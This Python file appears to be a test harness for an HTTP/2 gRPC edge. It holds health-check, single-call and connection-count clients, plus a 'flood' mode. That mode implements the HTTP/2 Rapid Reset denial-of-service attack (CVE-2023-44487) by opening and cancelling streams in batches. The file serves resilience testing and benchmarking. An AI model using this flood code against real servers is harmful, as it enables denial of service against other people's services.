#!/usr/bin/python3
"""Raw HTTP/2 clients for the edge tests and the edge benchmark.

  h2client.py flood  --target HOST:PORT [--source ADDR] [--connections 4] --seconds S [--streams N]
      The "rapid reset" attack (CVE-2023-44487): on each connection, open a
      stream with the HEADERS of a gRPC call and reset it at once
      (RST_STREAM CANCEL), over and over, for S seconds (or until N streams
      have been sent, if that comes first). A connection the
      server closes is opened again. Prints one JSON line of counts.

  h2client.py health --target HOST:PORT [--source ADDR] --count N [--seconds S] [--interval-ms MS]
      A well-behaved gRPC client: N grpc.health.v1.Health/Check calls (or
      fewer if S seconds pass first), one after the other on one connection.
      Prints one JSON line: gRPC statuses seen, messages, transport failures
      and latency percentiles.

  h2client.py call --target HOST:PORT [--path P] [--header NAME=VALUE]... [--tls-ca F [--cert F --key F]]
      One Health/Check call (or a call of path P with the same body;
      --headers-only: none, the answer is awaited after the headers), over TLS when --tls-ca is given (the server's
      certificate must chain to it; --cert/--key present a client
      certificate). Prints one JSON line: the response's headers and
      trailers, or the TLS/transport error.

  h2client.py conns --target HOST:PORT [--source ADDR] --count N
      Opens N connections and keeps them all open, then makes one
      Health/Check call on each. Prints one JSON line: how many were served.

SIGTERM ends flood and health early, still printing the report.

--source binds the client's socket to that local address first (any of
127.0.0.0/8 is loopback on Linux), so the edge sees a different client.
Every wait has a deadline: the program always ends. Needs python3-h2 (Debian).
"""
import argparse
import json
import os
import select
import signal
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

FLOOD_PATH = "/grading.v1.GradingService/GetGrade"
HEALTH_PATH = "/grpc.health.v1.Health/Check"
# RST_STREAM error code CANCEL, what a client sends when it gives up a call.
CANCEL = 0x8
# Streams opened and reset per connection before its bytes are written.
BATCH = 50


STOP = [False]


def on_sigterm(signum, frame):
    STOP[0] = True


def parse_target(text):
    host, _, port = text.rpartition(":")
    if not host or not port.isdigit():
        raise SystemExit("--target: expected HOST:PORT, got %r" % text)
    return host.strip("[]"), int(port)


def grpc_headers(target, path):
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", target), ("content-type", "application/grpc"),
            ("te", "trailers")]


class Conn:
    """One client HTTP/2 connection (prior knowledge, no TLS)."""

    def __init__(self, target, source, timeout, tls=None):
        host, port = parse_target(target)
        self.sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET,
                                  socket.SOCK_STREAM)
        try:
            self.sock.settimeout(timeout)
            if source:
                self.sock.bind((source, 0))
            self.sock.connect((host, port))
            self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if tls is not None:
                self.sock = tls.wrap_socket(self.sock)
        except OSError:
            self.sock.close()
            raise
        self.h2 = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.closed = False
        self.flush()

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, wait):
        """Reads what has arrived (waiting at most `wait` seconds for the
        first bytes); returns the h2 events. Marks the connection closed on
        EOF, a GOAWAY or a protocol error."""
        events = []
        ready, _, _ = select.select([self.sock], [], [], wait)
        while ready:
            try:
                data = self.sock.recv(65536, socket.MSG_DONTWAIT)
            except BlockingIOError:
                break
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            try:
                got = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            events.extend(got)
            if any(isinstance(e, h2.events.ConnectionTerminated) for e in got):
                self.closed = True
                break
            ready, _, _ = select.select([self.sock], [], [], 0)
        try:
            self.flush()   # SETTINGS acks, PING answers, window updates
        except OSError:
            self.closed = True
        return events

    def close(self):
        self.sock.close()


def flood(args):
    if args.nice:
        os.nice(args.nice)
    start = time.monotonic()
    deadline = start + args.seconds
    counts = {"streams": 0, "connections": 0, "goaways": 0, "refused_connects": 0,
              "send_errors": 0}
    conns = [None] * args.connections
    while time.monotonic() < deadline and not STOP[0]:
        if args.streams and counts["streams"] >= args.streams:
            break
        for i in range(len(conns)):
            c = conns[i]
            if c is None or c.closed:
                if c is not None:
                    c.close()
                conns[i] = None
                try:
                    conns[i] = c = Conn(args.target, args.source, 1.0)
                    counts["connections"] += 1
                except OSError:
                    counts["refused_connects"] += 1
                    time.sleep(0.01)   # a refused client retries, bounded by the deadline
                    continue
            if args.streams and counts["streams"] >= args.streams:
                break
            try:
                for _ in range(BATCH):
                    sid = c.h2.get_next_available_stream_id()
                    c.h2.send_headers(sid, grpc_headers(args.target, FLOOD_PATH))
                    c.h2.reset_stream(sid, error_code=CANCEL)
                c.flush()
                counts["streams"] += BATCH
            except (OSError, h2.exceptions.ProtocolError):
                counts["send_errors"] += 1
                c.closed = True
                continue
            for e in c.pump(0):
                if isinstance(e, h2.events.ConnectionTerminated):
                    counts["goaways"] += 1
    for c in conns:
        if c is not None:
            c.close()
    counts["seconds"] = round(time.monotonic() - start, 2)
    print(json.dumps(counts), flush=True)
    return 0


def health_call(conn, target, timeout):
    """One Health/Check call; returns (grpc status or None, message, serving)."""
    sid = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(sid, grpc_headers(target, HEALTH_PATH))
    # An empty HealthCheckRequest: the 5-byte gRPC frame header only.
    conn.h2.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=True)
    conn.flush()
    deadline = time.monotonic() + timeout
    status, message, body, ended = None, "", b"", False
    while not ended and not conn.closed:
        left = deadline - time.monotonic()
        if left <= 0:
            return None, "timeout", False
        for e in conn.pump(left):
            if getattr(e, "stream_id", None) != sid:
                continue
            if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                for k, v in e.headers:
                    if k == "grpc-status":
                        status = int(v)
                    elif k == "grpc-message":
                        message = v
            elif isinstance(e, h2.events.DataReceived):
                body += e.data
                conn.h2.acknowledge_received_data(e.flow_controlled_length, sid)
            elif isinstance(e, h2.events.StreamReset):
                return None, "stream reset by the server", False
            if isinstance(e, h2.events.StreamEnded):
                ended = True
    if not ended:
        return None, "connection closed", False
    # HealthCheckResponse{status = SERVING (1)}: field 1, varint 1.
    serving = body[5:] == b"\x08\x01"
    return status, message, serving


def percentile(sorted_ms, p):
    if not sorted_ms:
        return None
    idx = min(len(sorted_ms) - 1, max(0, int(round(p / 100.0 * len(sorted_ms) + 0.5)) - 1))
    return round(sorted_ms[idx], 3)


def health(args):
    statuses, messages, lat = {}, set(), []
    counts = {"calls": 0, "serving": 0, "transport_failures": 0}
    conn = None
    end = time.monotonic() + args.seconds if args.seconds else None
    for _ in range(args.count):
        if STOP[0] or (end is not None and time.monotonic() >= end):
            break
        t0 = time.monotonic()
        status, message, serving = None, "", False
        try:
            if conn is None or conn.closed:
                if conn is not None:
                    conn.close()
                conn = Conn(args.target, args.source, args.timeout)
            status, message, serving = health_call(conn, args.target, args.timeout)
        except (OSError, h2.exceptions.ProtocolError) as ex:
            message = "transport: %s" % ex
            if conn is not None:
                conn.closed = True
        lat.append((time.monotonic() - t0) * 1000.0)
        counts["calls"] += 1
        if status is None:
            counts["transport_failures"] += 1
        else:
            statuses[str(status)] = statuses.get(str(status), 0) + 1
        if serving:
            counts["serving"] += 1
        if message:
            messages.add(message)
        if args.interval_ms:
            time.sleep(args.interval_ms / 1000.0)
    if conn is not None:
        conn.close()
    lat.sort()
    counts.update({"statuses": statuses, "messages": sorted(messages),
                   "p50_ms": percentile(lat, 50), "p99_ms": percentile(lat, 99),
                   "max_ms": round(lat[-1], 3) if lat else None})
    print(json.dumps(counts), flush=True)
    return 0


def conns(args):
    held, served, failed = [], 0, 0
    try:
        for _ in range(args.count):
            try:
                held.append(Conn(args.target, args.source, args.timeout))
            except OSError:
                held.append(None)
        for c in held:
            ok = False
            if c is not None:
                try:
                    status, _, serving = health_call(c, args.target, args.timeout)
                    ok = status == 0 and serving
                except (OSError, h2.exceptions.ProtocolError):
                    ok = False
            served += ok
            failed += not ok
    finally:
        for c in held:
            if c is not None:
                c.close()
    print(json.dumps({"connections": args.count, "served": served, "failed": failed}), flush=True)
    return 0


def call(args):
    tls = None
    if args.tls_ca:
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname = False   # the test certificates name no host
        tls.load_verify_locations(args.tls_ca)
        tls.set_alpn_protocols(["h2"])
        if args.cert:
            tls.load_cert_chain(args.cert, args.key)
    extra = []
    for h in args.header or []:
        name, sep, value = h.partition("=")
        if not sep or not name:
            raise SystemExit("--header: expected NAME=VALUE, got %r" % h)
        extra.append((name.lower(), value))
    report = {"headers": {}, "trailers": {}, "error": None}
    conn = None
    try:
        conn = Conn(args.target, None, args.timeout, tls)
        sid = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(sid, grpc_headers(args.target, args.path) + extra)
        if not args.headers_only:
            conn.h2.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=True)
        conn.flush()
        deadline = time.monotonic() + args.timeout
        ended = False
        while not ended:
            if time.monotonic() >= deadline:
                raise TimeoutError("no answer within %.1f s" % args.timeout)
            data = conn.sock.recv(65536)
            if not data:
                raise ConnectionError("connection closed")
            for e in conn.h2.receive_data(data):
                if getattr(e, "stream_id", None) != sid:
                    continue
                if isinstance(e, h2.events.ResponseReceived):
                    report["headers"].update(dict(e.headers))
                elif isinstance(e, h2.events.TrailersReceived):
                    report["trailers"].update(dict(e.headers))
                elif isinstance(e, h2.events.DataReceived):
                    conn.h2.acknowledge_received_data(e.flow_controlled_length, sid)
                elif isinstance(e, h2.events.StreamReset):
                    raise ConnectionError("stream reset by the server")
                if isinstance(e, h2.events.StreamEnded):
                    ended = True   # a reset after the answer is complete is no error
                    break
            conn.flush()
    except (OSError, ssl.SSLError, h2.exceptions.ProtocolError) as ex:
        report["error"] = "%s: %s" % (type(ex).__name__, ex)
    finally:
        if conn is not None:
            conn.close()
    print(json.dumps(report), flush=True)
    return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    f = sub.add_parser("flood")
    f.add_argument("--target", required=True)
    f.add_argument("--source")
    f.add_argument("--connections", type=int, default=4)
    f.add_argument("--seconds", type=float, required=True)
    f.add_argument("--streams", type=int, default=0,
                   help="stop after this many streams (a multiple of %d; 0: no limit)" % BATCH)
    f.add_argument("--nice", type=int, default=0,
                   help="lower the flood's CPU priority: on one machine the attacker "
                        "would otherwise also be taking the server's CPU")
    h = sub.add_parser("health")
    h.add_argument("--target", required=True)
    h.add_argument("--source")
    h.add_argument("--count", type=int, required=True)
    h.add_argument("--seconds", type=float, default=0, help="stop after this long (0: no limit)")
    h.add_argument("--interval-ms", type=float, default=0)
    h.add_argument("--timeout", type=float, default=2.0, help="seconds per call")
    c = sub.add_parser("call")
    c.add_argument("--target", required=True)
    c.add_argument("--header", action="append")
    c.add_argument("--path", default=HEALTH_PATH, help="the gRPC method (default Health/Check)")
    c.add_argument("--headers-only", action="store_true",
                   help="send the request's headers and wait for the answer without sending a body")
    c.add_argument("--tls-ca")
    c.add_argument("--cert")
    c.add_argument("--key")
    c.add_argument("--timeout", type=float, default=5.0, help="seconds")
    k = sub.add_parser("conns")
    k.add_argument("--target", required=True)
    k.add_argument("--source")
    k.add_argument("--count", type=int, required=True)
    k.add_argument("--timeout", type=float, default=2.0, help="seconds per call")
    args = ap.parse_args()
    signal.signal(signal.SIGTERM, on_sigterm)
    if args.cmd == "conns":
        if not 1 <= args.count <= 1000:
            raise SystemExit("conns: --count 1..1000")
        return conns(args)
    if args.cmd == "call":
        if bool(args.cert) != bool(args.key) or (args.cert and not args.tls_ca):
            raise SystemExit("call: --cert and --key go together, with --tls-ca")
        return call(args)
    if args.cmd == "flood":
        if not 1 <= args.connections <= 64 or not 0 < args.seconds <= 600:
            raise SystemExit("flood: --connections 1..64 and --seconds 0..600")
        return flood(args)
    if not 1 <= args.count <= 1000000:
        raise SystemExit("health: --count 1..1000000")
    return health(args)


if __name__ == "__main__":
    sys.exit(main())
